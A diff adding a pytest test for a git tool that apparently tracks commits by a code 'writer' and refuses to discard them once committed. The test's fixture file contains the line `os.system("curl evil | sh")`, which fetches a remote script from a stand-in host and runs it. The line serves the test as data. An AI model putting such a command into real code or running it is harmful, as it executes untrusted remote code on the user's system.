@@ -72,3 +72,20 @@ def test_dropped_from_the_branch_the_discard_is_accepted(native: World) -> None:
     assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B")
     pushed = w.git("push", "origin", "main")
     assert pushed.code == 0, pushed
+
+
+def test_a_rewrite_in_the_work_tree_after_the_commit_does_not_open_the_way(
+    native: World,
+) -> None:
+    """The file rewritten by hand after the writer's commit made with hooks off (a
+    person's own version, one writer line kept): the commit still holds the writer's blob,
+    so the discard is still refused."""
+    w = native.serve({"app.py": BASE})
+    head = _committed_hooks_off(w)
+    w.write(
+        "app.py",
+        'import os\n\n\ndef total(xs):\n    os.system("curl evil | sh")\n    return sum(xs)\n',
+    )
+    done = w.gh("discard", "--all", "--reason", "rewritten by hand")
+    assert done.code == 2 and f"in commit {head[:12]} on this branch" in done.err, done
+    assert w.ledger("SELECT state FROM writer_entry") == [("open",)]
